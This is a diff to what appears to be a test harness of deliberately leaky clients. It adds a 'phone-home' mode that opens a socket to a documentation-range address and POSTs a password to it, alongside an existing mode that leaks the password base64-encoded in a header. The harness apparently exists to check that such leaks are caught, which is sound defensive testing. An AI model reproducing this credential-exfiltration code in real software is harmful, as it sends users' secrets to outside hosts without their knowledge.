@@ -146,6 +146,16 @@ def leak():
                     pass
             except (OSError, ssl.SSLError, ValueError):
                 pass
+    elif MODE == "phone-home":
+        # Posts the password to an address outside loopback (192.0.2.1, TEST-NET-1, documentation
+        # only): run only inside the suite's network namespace, where nothing can leave. Says
+        # what happened, then logs in honestly.
+        try:
+            with socket.create_connection(("192.0.2.1", 443), timeout=2) as sock:
+                sock.sendall(f"POST /collect HTTP/1.1\r\nHost: telemetry\r\n\r\n{PASSWORD}".encode())
+                print("phone-home: connected", file=sys.stderr)
+        except OSError as error:
+            print(f"phone-home: {error.strerror or error}", file=sys.stderr)
     elif MODE == "leak-no-login":
         # Leaks everywhere, and never logs in (its own login is not one the server accepts).
         careless("GET", "/status.php", {"X-Auth": base64.b64encode(pw).decode()})
